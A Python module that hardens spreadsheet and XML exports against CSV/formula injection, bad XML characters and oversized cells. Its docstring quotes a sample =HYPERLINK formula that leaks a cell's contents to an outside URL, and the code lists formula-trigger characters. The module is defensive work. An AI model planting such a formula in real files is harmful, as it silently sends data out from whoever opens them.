"""User text written into files people open: spreadsheets (CSV, XLSX) and the XML that XLSX and
Word are made of. One place states the rules, so every export follows the same ones:

1. **XLSX: user text is a string cell, always.** openpyxl stores a ``str`` that starts with "=" as a
   formula, so a comment ``=HYPERLINK("http://…?leak="&A1, "…")`` would run when the file is opened.
   ``xlsx_append`` writes every ``str`` as a string cell (``t="inlineStr"``): the value is unchanged,
   it is never a formula, and reading the file back gives the same text.
2. **CSV for people** (the audit log and any report meant to be opened in a spreadsheet): a cell
   that starts with ``= + - @``, a tab or a carriage return gets a leading ``'`` (OWASP, "CSV
   injection"), which spreadsheets show as text. ``csv_cell_for_people`` does it.
3. **CSV for machines** (the tasks export, which the tasks import reads back; 87 of 439 real task
   rows start with "- "): the exact text, no prefix, so that import → export → import round-trips.
   Open such a file in a spreadsheet with "Data → From Text" (every column as text) or use the
   XLSX export, whose cells are strings.
4. **XML 1.0 cannot hold every string** (lxml, python-docx and openpyxl refuse them): control
   characters other than tab, line feed and carriage return are dropped, lone surrogates and the
   two non-characters U+FFFE/U+FFFF become U+FFFD. ``xml_safe`` does it; every office file and
   the HTML report pass their text through it.
5. **A cell has a size limit** (Excel: 32,767 characters; a Word or PDF report of a 15 MB comment
   would be thousands of pages and lxml refuses a text node over 10 MB). ``cut`` keeps the first
   characters and says, in the cell, that the text was cut, how long it was and where it is whole.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# OWASP's list: what makes Excel, LibreOffice or Google Sheets read a cell as a formula or DDE.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CELL_CHARS = 32_767  # Excel's hard limit per cell
# A Word/PDF/HTML report cell: five times what any channel accepts for one comment field (20,000
# characters), so an accepted comment is never cut; a larger stored text (from before the limit,
# or the database) is cut with a note instead of breaking the report.
REPORT_CELL_CHARS = 100_000
CUT_MARK = "[…] (Đã cắt: "  # begins the note of a cut text; the tasks import refuses a cell holding it
# Not allowed in XML 1.0: C0 controls except TAB, LF, CR; lone surrogates; U+FFFE and U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]|[\ud800-\udfff]|[\ufffe\uffff]")


def xml_safe(text: str) -> str:
    """``text`` minus what XML 1.0 cannot hold: C0 controls (pasted from PDFs) are dropped, lone
    surrogates and U+FFFE/U+FFFF become U+FFFD (the replacement character, visibly)."""
    if not _NOT_XML.search(text):  # the common case: one scan, no copy
        return text
    return _NOT_XML.sub(lambda match: "" if match.group() < "\x20" else "\ufffd", text)


def cut(text: str, limit: int, *, where: str) -> str:
    """``text`` if it fits in ``limit`` characters, else its beginning followed by a note (in the
    reports' language, Vietnamese) saying it was cut, its full length, and ``where`` it is whole."""
    if len(text) <= limit:
        return text

    def note(kept: int) -> str:
        return (f"\n{CUT_MARK}văn bản dài {_number(len(text))} ký tự, ở đây chỉ in {_number(kept)} ký tự đầu; "
                f"toàn văn: {where}.)")

    kept = max(0, limit - len(note(limit)))  # the note for ``kept`` is never longer than for ``limit``
    return text[:kept] + note(kept)


def _number(value: int) -> str:
    return f"{value:,}".replace(",", ".")  # Vietnamese groups thousands with dots


def csv_cell_for_people(value: object) -> str:
    """A CSV cell that a spreadsheet shows as text: ``'`` before a cell that starts like a formula."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_TRIGGERS) else text


def csv_row_for_people(values: Iterable[object]) -> list[str]:
    return [csv_cell_for_people(value) for value in values]


def xlsx_value(value: Any, *, where: str = "") -> Any:
    """A value ready for a cell: text made XML-safe and cut to Excel's limit; numbers, dates and
    ``None`` unchanged."""
    if not isinstance(value, str):
        return value
    text = xml_safe(value)
    return cut(text, XLSX_CELL_CHARS, where=where or "trong hệ thống hoinhap") if len(text) > XLSX_CELL_CHARS else text


def xlsx_append(sheet: Any, values: Iterable[Any], *, where: str = "") -> None:
    """Append a row to an openpyxl worksheet; every ``str`` becomes a string cell, never a formula."""
    from openpyxl.cell import Cell

    cells = []
    for value in values:
        cell = Cell(sheet, value=xlsx_value(value, where=where))
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl made a "=…" string a formula ("f"); a string it stays
        cells.append(cell)
    sheet.append(cells)
